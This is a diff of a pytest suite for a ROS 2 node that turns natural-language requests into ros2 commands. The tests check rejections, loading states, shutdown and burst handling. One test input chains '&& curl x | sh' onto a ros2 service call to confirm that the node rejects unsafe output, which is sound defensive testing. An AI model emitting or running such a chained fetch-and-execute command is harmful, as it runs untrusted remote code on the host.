@@ -12,17 +12,21 @@
 # See the License for the specific language governing permissions and
 # limitations under the License.
 
-"""prompt_tuning_node over real rclpy topics, with a stand-in generator (no model)."""
+"""prompt_tuning_node over real rclpy topics, with stand-in generators (no model)."""
 
 import gc
 import json
+import resource
 import threading
 import time
+import tracemalloc
 
 import pytest
 import rclpy
 from rclpy.executors import SingleThreadedExecutor
 from rclpy.parameter import Parameter
+from rclpy.qos import HistoryPolicy
+from ros2_prompt_tuning.adapter import AdapterMismatchError
 from ros2_prompt_tuning.generation import Reply
 from ros2_prompt_tuning.node import PromptTuningNode
 from ros2_prompt_tuning.resources import default_adapter_dir
@@ -31,6 +35,7 @@ from std_msgs.msg import String
 
 CLEAR = 'ros2 service call /clear std_srvs/srv/Empty'
 RESET = 'ros2 service call /reset std_srvs/srv/Empty'
+REJECTED = '/prompt_tuning_node/rejected'
 EXECUTORS = []
 
 
@@ -47,10 +52,28 @@ class EchoGenerator:
         self.release.set()
 
     def __call__(self, request):
-        """Return a reply naming the request, once released."""
-        self.calls.append(request)
-        self.release.wait(timeout=10.0)
+        """Return a reply naming the request, once released; fail on a request 'boom'."""
+        self.calls.append((request, self.max_new_tokens))
+        self.release.wait(timeout=30.0)
+        if request == 'boom':
+            raise RuntimeError('the model broke')
         return Reply(request, True, request)
+
+
+class GatedFactory:
+    """Build an :class:`EchoGenerator` once ``loaded`` is set, or raise ``error`` then."""
+
+    def __init__(self, error=None):
+        """Start with the gate closed."""
+        self.loaded = threading.Event()
+        self.error = error
+
+    def __call__(self, *args, **kwargs):
+        """Wait for the gate; then load or fail."""
+        self.loaded.wait(timeout=30.0)
+        if self.error:
+            raise self.error
+        return EchoGenerator(*args, **kwargs)
 
 
 @pytest.fixture
@@ -65,35 +88,64 @@ def ros_context():
     rclpy.init(context=context)
     yield context
     for executor in EXECUTORS:
+        executor.shutdown()
         for node in executor.get_nodes():
             if isinstance(node, PromptTuningNode):
                 node.stop()
             node.destroy_node()
-        executor.shutdown()
     EXECUTORS.clear()
     rclpy.try_shutdown(context=context)
     gc.collect()
 
 
-def start_node(context, namespace='', **parameters):
-    """Return ``(node, publisher, executor, replies)`` with a client on the node's topics."""
+class Client:
+    """A node that sends requests and collects both kinds of outcome."""
+
+    def __init__(self, context, namespace='', depth=10):
+        """Subscribe to the node's outputs and publish on ``nl_command``."""
+        self.node = rclpy.create_node('client', context=context, namespace=namespace)
+        self.replies = []
+        self.rejected = []
+        self.node.create_subscription(String, 'generated_command',
+                                      lambda message: self.replies.append(message.data), depth)
+        self.node.create_subscription(
+            String, REJECTED.lstrip('/') if not namespace else 'prompt_tuning_node/rejected',
+            lambda message: self.rejected.append(json.loads(message.data)), depth)
+        self.publisher = self.node.create_publisher(String, 'nl_command', depth)
+
+    def send(self, *texts):
+        """Publish each text as a request."""
+        for text in texts:
+            self.publisher.publish(String(data=text))
+
+    def outcomes(self):
+        """Return how many requests ended so far."""
+        return len(self.replies) + len(self.rejected)
+
+    def reasons(self):
+        """Return the rejection reasons by request."""
+        return {report['request']: report['reason'] for report in self.rejected}
+
+
+def start_node(context, namespace='', factory=EchoGenerator, wait_ready=True, depth=10,
+               **parameters):
+    """Return ``(node, client, executor)``: the node and a connected client."""
     node = PromptTuningNode(
-        generator_factory=EchoGenerator, context=context, namespace=namespace,
+        generator_factory=factory, context=context, namespace=namespace,
         parameter_overrides=[Parameter(name, value=value) for name, value in parameters.items()])
-    client = rclpy.create_node('client', context=context, namespace=namespace)
-    replies = []
-    client.create_subscription(String, 'generated_command',
-                               lambda message: replies.append(message.data), 10)
-    publisher = client.create_publisher(String, 'nl_command', 10)
+    client = Client(context, namespace, depth)
     executor = SingleThreadedExecutor(context=context)
     EXECUTORS.append(executor)
     executor.add_node(node)
-    executor.add_node(client)
-    spin_until(executor, lambda: publisher.get_subscription_count() == 1)
-    return node, publisher, executor, replies
+    executor.add_node(client.node)
+    spin_until(executor, lambda: client.publisher.get_subscription_count() >= 1
+               and client.node.count_publishers(node.rejections.topic_name) >= 1)
+    if wait_ready:
+        spin_until(executor, lambda: node.state == 'ready')
+    return node, client, executor
 
 
-def spin_until(executor, condition, timeout_s=10.0):
+def spin_until(executor, condition, timeout_s=30.0):
     """Spin until ``condition()`` holds; fail after ``timeout_s``."""
     deadline = time.monotonic() + timeout_s
     while not condition():
@@ -102,65 +154,201 @@ def spin_until(executor, condition, timeout_s=10.0):
 
 
 @pytest.mark.ros
-def test_one_reply_per_non_empty_request(ros_context):
-    node, publisher, executor, replies = start_node(ros_context)
-    for text in [CLEAR, '', '   \n', 'UNSUPPORTED']:
-        publisher.publish(String(data=text))
-    spin_until(executor, lambda: len(replies) == 2)
-    executor.spin_once(timeout_sec=0.3)
-    assert replies == [CLEAR, 'UNSUPPORTED']
-    assert node.generator.calls == [CLEAR, 'UNSUPPORTED']
+def test_one_outcome_per_request_and_empty_ones_rejected(ros_context):
+    node, client, executor = start_node(ros_context)
+    client.send(CLEAR, '', '   \n', 'UNSUPPORTED')
+    spin_until(executor, lambda: client.outcomes() == 4)
+    assert client.replies == [CLEAR, 'UNSUPPORTED']
+    assert [request for request, _ in node.generator.calls] == [CLEAR, 'UNSUPPORTED']
+    assert [report['reason'] for report in client.rejected] == ['empty request'] * 2
+    assert sorted(report['id'] for report in client.rejected) == [2, 3]
 
 
 @pytest.mark.ros
 def test_callback_stays_responsive_while_generating(ros_context):
-    node, publisher, executor, replies = start_node(ros_context)
+    node, client, executor = start_node(ros_context)
     node.generator.release.clear()
-    publisher.publish(String(data=CLEAR))
-    publisher.publish(String(data=RESET))
-    spin_until(executor, lambda: node.generator.calls == [CLEAR])
-    spin_until(executor, lambda: node.requests.qsize() == 1)
-    assert replies == []
+    client.send(CLEAR, RESET)
+    spin_until(executor, lambda: len(node.generator.calls) == 1 and len(node.pending) == 1)
+    assert client.outcomes() == 0
     node.generator.release.set()
-    spin_until(executor, lambda: replies == [CLEAR, RESET])
+    spin_until(executor, lambda: client.replies == [CLEAR, RESET])
 
 
 @pytest.mark.ros
 def test_parameters_reach_the_generator(ros_context):
-    node, _, _, _ = start_node(ros_context, model='some.gguf', device='cpu', max_new_tokens=64)
+    node, client, executor = start_node(ros_context, model='some.gguf', device='cpu',
+                                        max_new_tokens=64, max_queue=8)
     assert node.generator.settings == ('some.gguf', str(default_adapter_dir()), 'cpu', 64)
-    assert not node.set_parameters([Parameter('max_new_tokens', value=0)])[0].successful
-    assert not node.set_parameters([Parameter('model', value='other')])[0].successful
+    assert node.subscription.qos_profile.history == HistoryPolicy.KEEP_ALL
+    for name, value in [('max_new_tokens', 0), ('model', 'other'), ('max_queue', 9),
+                        ('max_load_wait_s', -1.0)]:
+        assert not node.set_parameters([Parameter(name, value=value)])[0].successful, name
     assert node.set_parameters([Parameter('max_new_tokens', value=200)])[0].successful
-    assert node.generator.max_new_tokens == 200
+    client.send(CLEAR)
+    spin_until(executor, lambda: client.replies == [CLEAR])
+    assert node.generator.calls == [(CLEAR, 200)]
 
 
 @pytest.mark.ros
 def test_namespace_and_bare_model(ros_context):
-    node, publisher, executor, replies = start_node(ros_context, namespace='robot1',
-                                                    adapter='none')
+    node, client, executor = start_node(ros_context, namespace='robot1', adapter='none')
     assert node.generator.settings[1] is None
-    assert publisher.topic_name == '/robot1/nl_command'
-    publisher.publish(String(data=RESET))
-    spin_until(executor, lambda: replies == [RESET])
+    assert client.publisher.topic_name == '/robot1/nl_command'
+    assert node.rejections.topic_name == '/robot1/prompt_tuning_node/rejected'
+    client.send(RESET)
+    spin_until(executor, lambda: client.replies == [RESET])
 
 
 @pytest.mark.ros
 def test_invalid_outputs_and_long_requests_are_rejected_not_published(ros_context):
-    node, publisher, executor, replies = start_node(ros_context, max_request_length=60)
-    rejected = []
-    listener = rclpy.create_node('listener', context=ros_context)
-    listener.create_subscription(String, '/prompt_tuning_node/rejected',
-                                 lambda message: rejected.append(json.loads(message.data)), 10)
-    executor.add_node(listener)
-    spin_until(executor, lambda: listener.count_publishers('/prompt_tuning_node/rejected'))
+    node, client, executor = start_node(ros_context, max_request_length=60)
     unsafe = CLEAR + ' && curl x | sh'
     too_long = CLEAR + ' ' * 10 + 'x' * 60
-    for text in [unsafe, 'make me a coffee', too_long, RESET]:
-        publisher.publish(String(data=text))
-    spin_until(executor, lambda: replies == [RESET] and len(rejected) == 3)
-    assert [report['request'] for report in rejected] == [unsafe, 'make me a coffee', too_long]
-    assert rejected[0]['output'] == unsafe and '&' in rejected[0]['reason']
-    assert 'not a ros2 command' in rejected[1]['reason']
-    assert rejected[2]['output'] is None and 'longer than 60' in rejected[2]['reason']
-    assert too_long not in node.generator.calls
+    client.send(unsafe, 'make me a coffee', too_long, RESET)
+    spin_until(executor, lambda: client.outcomes() == 4)
+    assert client.replies == [RESET]
+    reports = {report['request']: report for report in client.rejected}
+    assert sorted(report['id'] for report in client.rejected) == [1, 2, 3]
+    assert reports[unsafe]['output'] == unsafe and '&' in reports[unsafe]['reason']
+    assert 'not a ros2 command' in reports['make me a coffee']['reason']
+    assert reports[too_long]['output'] is None
+    assert 'longer than 60' in reports[too_long]['reason']
+    assert too_long not in [request for request, _ in node.generator.calls]
+
+
+@pytest.mark.ros
+def test_an_error_in_generation_is_a_rejection_and_the_node_keeps_serving(ros_context):
+    node, client, executor = start_node(ros_context)
+    client.send('boom', CLEAR)
+    spin_until(executor, lambda: client.outcomes() == 2)
+    assert client.replies == [CLEAR]
+    [report] = client.rejected
+    assert report['id'] == 1 and report['request'] == 'boom' and report['output'] is None
+    assert 'RuntimeError: the model broke' in report['reason']
+    assert node.rejected == {'error': 1} and node.served == 1
+
+
+@pytest.mark.ros
+def test_topics_exist_before_the_model_and_requests_wait_for_it(ros_context):
+    factory = GatedFactory()
+    node, client, executor = start_node(ros_context, factory=factory, wait_ready=False)
+    assert node.state == 'loading'
+    client.send(CLEAR, RESET)
+    spin_until(executor, lambda: len(node.pending) == 2)
+    assert client.outcomes() == 0 and node.generator is None
+    factory.loaded.set()
+    spin_until(executor, lambda: client.replies == [CLEAR, RESET])
+    assert client.rejected == []
+
+
+@pytest.mark.ros
+def test_waiting_for_the_model_is_bounded(ros_context):
+    factory = GatedFactory()
+    node, client, executor = start_node(ros_context, factory=factory, wait_ready=False,
+                                        max_load_wait_s=0.0)
+    client.send(CLEAR)
+    spin_until(executor, lambda: client.outcomes() == 1)
+    assert 'still loading' in client.rejected[0]['reason']
+    node.set_parameters([Parameter('max_load_wait_s', value=0.2)])
+    client.send(RESET)
+    spin_until(executor, lambda: client.outcomes() == 2)
+    assert 'still loading after 0.2 s' in client.rejected[1]['reason']
+    factory.loaded.set()
+    spin_until(executor, lambda: node.state == 'ready')
+    assert node.generator.calls == []
+
+
+@pytest.mark.ros
+def test_a_model_that_fails_to_load_rejects_what_waits_and_ends_the_node(ros_context):
+    message = 'the prompt weights in w were trained for base model "a", not "b"'
+    factory = GatedFactory(AdapterMismatchError(message))
+    node, client, executor = start_node(ros_context, factory=factory, wait_ready=False)
+    client.send(CLEAR)
+    spin_until(executor, lambda: len(node.pending) == 1)
+    factory.loaded.set()
+    spin_until(executor, lambda: client.outcomes() == 1)
+    assert client.rejected[0]['reason'] == 'the model failed to load'
+    assert node.state == 'failed' and node.end.get(timeout=10.0) == 'failed'
+    client.send(RESET)
+    spin_until(executor, lambda: client.outcomes() == 2)
+    assert client.rejected[1]['reason'] == 'the model failed to load'
+
+
+@pytest.mark.ros
+def test_stop_answers_the_request_in_hand_and_rejects_the_queued_ones(ros_context):
+    node, client, executor = start_node(ros_context)
+    node.generator.release.clear()
+    texts = [CLEAR, RESET, 'UNSUPPORTED', CLEAR + ' ', 'make me a coffee']
+    client.send(*texts)
+    spin_until(executor, lambda: len(node.generator.calls) == 1 and len(node.pending) == 4)
+    stopper = threading.Thread(target=node.stop)
+    stopper.start()
+    spin_until(executor, lambda: len(client.rejected) == 4)
+    node.generator.release.set()
+    stopper.join()
+    spin_until(executor, lambda: client.replies == [CLEAR])
+    assert [report['reason'] for report in client.rejected] == ['shutdown'] * 4
+    assert sorted(report['id'] for report in client.rejected) == [2, 3, 4, 5]
+    assert not node.worker.is_alive()
+    client.send(RESET)
+    spin_until(executor, lambda: client.outcomes() == 6)
+    assert client.rejected[-1]['reason'] == 'shutdown'
+
+
+@pytest.mark.ros
+@pytest.mark.parametrize('held', [False, True], ids=['fast', 'held'])
+def test_a_burst_of_1000_requests_gets_exactly_1000_outcomes(ros_context, held):
+    """
+    Send 1,000 requests at once; each gets one outcome, matched by id.
+
+    With the generator held until all have arrived, exactly ``max_queue`` + 1 are served
+    (the one in hand and the queue) and the rest are rejected as overload.
+    """
+    tracemalloc.start()
+    node, client, executor = start_node(ros_context, depth=1000)
+    node.generator.release.clear()
+    if not held:
+        node.generator.release.set()
+    spinner = threading.Thread(target=executor.spin, daemon=True)
+    spinner.start()
+    count = 1000
+    client.send(*[f'{CLEAR}{" " * (index % 3)}' for index in range(count)])
+    deadline = time.monotonic() + 120.0
+    while held and sum(node.rejected.values()) + len(node.pending) + 1 < count:
+        assert time.monotonic() < deadline, 'the requests did not all arrive'
+        time.sleep(0.05)
+    node.generator.release.set()
+    while client.outcomes() < count and time.monotonic() < deadline:
+        time.sleep(0.05)
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    executor.shutdown()
+    print(f'\nburst of {count} ({"held" if held else "fast"} generator): '
+          f'{len(client.replies)} published, {len(client.rejected)} rejected '
+          f'({dict(node.rejected)}); peak Python allocations {peak / 2 ** 20:.1f} MiB, '
+          f'peak RSS {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024:.0f} MiB')
+    assert client.outcomes() == count
+    rejected_ids = {report['id'] for report in client.rejected}
+    assert len(rejected_ids) == len(client.rejected)
+    assert rejected_ids <= set(range(1, count + 1))
+    assert node.served == len(client.replies) and set(node.rejected) <= {'overload'}
+    if held:
+        assert rejected_ids == set(range(node.max_queue + 2, count + 1))
+
+
+@pytest.mark.ros
+def test_diagnostics_report_state_queue_counts_and_latency(ros_context):
+    from diagnostic_msgs.msg import DiagnosticArray
+    node, client, executor = start_node(ros_context)
+    client.send(CLEAR, '')
+    spin_until(executor, lambda: client.outcomes() == 2)
+    arrays = []
+    client.node.create_subscription(DiagnosticArray, '/diagnostics', arrays.append, 10)
+    spin_until(executor, lambda: arrays)
+    [status] = arrays[-1].status
+    values = {item.key: item.value for item in status.values}
+    assert status.message == 'ready' and status.name == '/prompt_tuning_node: generation'
+    assert values['served'] == '1' and values['rejected_empty'] == '1'
+    assert values['queue_depth'] == '0' and values['latency_p50_ms'] != ''
+    assert {'model', 'adapter', 'device', 'latency_p95_ms', 'state'} <= set(values)
